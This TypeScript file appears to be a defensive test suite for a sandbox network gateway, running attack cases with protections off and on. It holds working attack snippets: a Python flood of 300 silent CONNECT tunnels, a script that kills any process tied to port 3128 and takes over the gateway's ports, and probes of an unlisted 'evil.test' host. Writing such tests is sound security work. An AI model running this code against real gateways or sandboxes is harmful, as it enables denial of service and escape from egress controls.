import {
  type AttackCase,
  type AttackedRuntime,
  allRuntimes,
  type Observation,
  systemRuntimes,
} from "../attack-case.ts";
import type { Lab } from "../lab/lab.ts";
import { labSpec } from "../lab/lab.ts";
import { newScene } from "../lab/scene.ts";
import { sandboxTarget, type Target } from "../lab/target.ts";
import { listenOn } from "./neighbour.ts";
import { python, shell } from "./network-attack.ts";

/** More than the limit of connections that a gateway holds at once. */
const floodSize = 300;
const connectionLimit = 256;

/**
 * Opens many tunnels and says nothing in them; prints how many were granted, and how many of those are open at the end: on a slow machine the
 * first are closed for their silence before the last are asked for. Holds them until its stdin ends.
 */
const floodWith = (proxy: string) => {
  const [host, port] = proxy.split(":");
  return python(`import socket, sys
held = []
for number in range(${floodSize}):
    try:
        one = socket.create_connection(("${host}", ${port}), 20)
        one.settimeout(5)
        held.append(one)
        one.sendall(b"CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n")
    except OSError:
        pass
granted = []
for one in held:
    try:
        if b" 200 " in one.recv(100):
            granted.append(one)
    except OSError:
        pass
still_open = 0
for one in granted:
    one.setblocking(False)
    try:
        still_open += one.recv(100) != b""
    except BlockingIOError:
        still_open += 1
    except OSError:
        pass
print(len(granted), still_open, flush=True)
sys.stdin.read()`);
};

function judgeFlood(stdout: string): Observation {
  const [granted, open] = stdout.trim().split(" ").map(Number);
  if (granted === undefined || open === undefined || !(granted > 0))
    throw new Error(`no tunnel was granted at all: ${stdout}`);
  const succeeded = open > connectionLimit;
  return {
    succeeded,
    seen: succeeded ? "tunnels beyond the limit were granted" : "tunnels were granted up to the limit",
  };
}

/** Whether a request for a host arrives. */
async function arrives(lab: Lab, target: Target, host: string): Promise<boolean> {
  const { token } = newScene();
  await target.run(["curl", "-s", "-m", "60", "-o", "/dev/null", `http://${host}/${token}`]);
  return (await lab.arrivals()).some((seen) => seen.kind === "request" && seen.target.includes(token));
}

/** A listener on the gateway's port, in the same sandbox, and the code that tries to get rid of it. */
const endForwarder = python(`import os, signal, socket, time
killed = False
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) not in (1, os.getpid()):
        try:
            line = open(f"/proc/{name}/cmdline").read()
            if "3128" in line and "killed = " not in line:
                os.kill(int(name), signal.SIGKILL)
                killed = True
        except OSError:
            pass
taken = False
for attempt in range(10):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        for port in (3128, 80, 443, 53):
            one = socket.socket(socket.AF_INET, kind)
            one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            try:
                one.bind(("127.0.0.1", port))
                taken = taken or (kind == socket.SOCK_STREAM and port == 3128)
            except OSError:
                pass
            one.close()
    time.sleep(0.02)
print(killed or taken)`);

/** What differs between the runtimes that have a forwarder. */
interface EndingTheForwarder extends Pick<AttackCase, "name" | "protection"> {
  readonly runtime: AttackedRuntime;
  /** What is seen without the protection, and with it. */
  readonly success: string;
  readonly failure: string;
}

function endingTheForwarder({
  name,
  protection,
  runtime: only,
  success,
  failure,
}: EndingTheForwarder): AttackCase {
  return {
    name,
    attack: 50,
    title: "Ending the forwarder from inside, and taking its ports",
    protection,
    runtimes: [only],
    async off(lab) {
      const place = await lab.place();
      await place.run(shell(listenOn(3128)));
      const { stdout } = await place.run(endForwarder);
      return { succeeded: stdout.trim() === "True", seen: success };
    },
    async on(lab, runtime) {
      const { client } = await lab.shared(runtime);
      await using sandbox = await client.create(labSpec(runtime, { egress: ["allowed.test"] }));
      const target = sandboxTarget(sandbox, runtime);
      const { stdout } = await target.run(endForwarder);
      const isServed = await arrives(lab, target, "allowed.test");
      const isOpen = await arrives(lab, target, "evil.test");
      const succeeded = stdout.trim() !== "False" || !isServed || isOpen;
      return { succeeded, seen: succeeded ? "the forwarder was ended" : failure };
    },
  };
}

/** What happens to the way out while a sandbox lives. */
export const liveCases: readonly AttackCase[] = [
  {
    name: "connection-flood",
    attack: 48,
    title: "Hundreds of tunnels that stay silent; another sandbox is not affected",
    protection: "a limit of connections for each sandbox",
    runtimes: systemRuntimes,
    async off(lab) {
      const target = await lab.unprotected();
      const { stdout } = await target.run(floodWith(target.proxy));
      return judgeFlood(stdout);
    },
    async on(lab, runtime) {
      const { client } = await lab.shared(runtime);
      await using flooder = await client.create(
        labSpec(runtime, { egress: ["allowed.test"], openFiles: 1024 }),
      );
      const other = sandboxTarget(await lab.sandbox(runtime, "allowing"), runtime);
      const [program, ...args] = floodWith(sandboxTarget(flooder, runtime).proxy);
      const flooding = await flooder.spawn(program, args);
      let stdout = "";
      for await (const { data } of flooding.output) {
        stdout += Buffer.from(data);
        if (stdout.endsWith("\n")) break;
      }
      const isOtherServed = await arrives(lab, other, "allowed.test");
      await flooding.kill();
      return isOtherServed ? judgeFlood(stdout) : { succeeded: true, seen: "another sandbox was cut off" };
    },
  },
  endingTheForwarder({
    name: "end-the-forwarder",
    protection: "the forwarder runs in a container of its own",
    runtime: "docker",
    success: "a forwarder in the same container was ended",
    failure: "it cannot be seen, and its ports are taken",
  }),
  endingTheForwarder({
    name: "end-the-forwarder-beside",
    protection: "the forwarder runs as a user of its own",
    runtime: "microsandbox",
    success: "a forwarder of the same user was ended",
    failure: "it cannot be signalled, and its ports are taken",
  }),
  {
    name: "tightened-rules",
    attack: 51,
    title: "Going on with a host after it was taken from the rules, also in an open tunnel",
    protection: "open connections are judged again",
    runtimes: allRuntimes,
    off: async (lab) => ({
      succeeded: await arrives(lab, await lab.unprotected(), "allowed.test"),
      seen: "the host is reached as before",
    }),
    async on(lab, runtime) {
      const { client } = await lab.shared(runtime);
      await using sandbox = await client.create(labSpec(runtime, { egress: ["allowed.test", "api.test"] }));
      const target = sandboxTarget(sandbox, runtime);
      if (!(await arrives(lab, target, "allowed.test"))) throw new Error("the host was not reached before");
      let isTunnelClosed = Promise.resolve(true);
      if (runtime !== "embedded") {
        const holding = await sandbox.spawn("python3", [
          "-c",
          `import socket
one = socket.create_connection(("127.0.0.1", 3128))
one.sendall(b"CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n")
print(one.recv(100), flush=True)
print("closed" if one.recv(100) == b"" else "open")`,
        ]);
        const output = holding.output[Symbol.asyncIterator]();
        await output.next();
        isTunnelClosed = (async () => {
          let text = "";
          for (let next = await output.next(); next.done !== true; next = await output.next())
            text += String((next.value as { data: unknown }).data);
          await holding.wait();
          return !text.includes("open");
        })();
      }
      await sandbox.narrowEgress(["api.test"]);
      const stillOpen = (await arrives(lab, target, "allowed.test")) || !(await isTunnelClosed);
      const kept = await arrives(lab, target, "api.test");
      return {
        succeeded: stillOpen || !kept,
        seen: stillOpen ? "the host is reached as before" : "nothing arrived; 403",
      };
    },
  },
  {
    name: "rules-after-restart",
    attack: 52,
    title: "A way out left open by stopping and starting the sandbox",
    protection: "the gateway belongs to the sandbox, not to its run",
    runtimes: allRuntimes,
    off: async (lab) => ({
      succeeded: await arrives(lab, await lab.unprotected(), "evil.test"),
      seen: "the unlisted host is reached",
    }),
    async on(lab, runtime) {
      const { client } = await lab.shared(runtime);
      await using sandbox = await client.create(labSpec(runtime, { egress: ["allowed.test"] }));
      await sandbox.stop();
      await sandbox.start();
      const target = sandboxTarget(sandbox, runtime);
      const isOpen = await arrives(lab, target, "evil.test");
      const isServed = await arrives(lab, target, "allowed.test");
      const succeeded = isOpen || !isServed;
      return {
        succeeded,
        seen: succeeded ? "the rules were lost" : "nothing arrived; the listed host is reached",
      };
    },
  },
  {
    name: "unenforceable",
    attack: 53,
    title: "A request or a policy that the runtime cannot enforce",
    protection: "it is refused, never weakened",
    runtimes: allRuntimes,
    off: "a runtime that drops what it cannot enforce is not among ours",
    async on(lab, runtime) {
      const fields = runtime === "embedded" ? { limits: { pids: 10 } } : { ports: [8000] };
      const error = await lab.client(runtime, fields).then(
        () => undefined,
        (caught: { readonly code?: string }) => caught.code ?? "no code",
      );
      return { succeeded: error === undefined, seen: `connecting is refused: ${error}` };
    },
  },
];
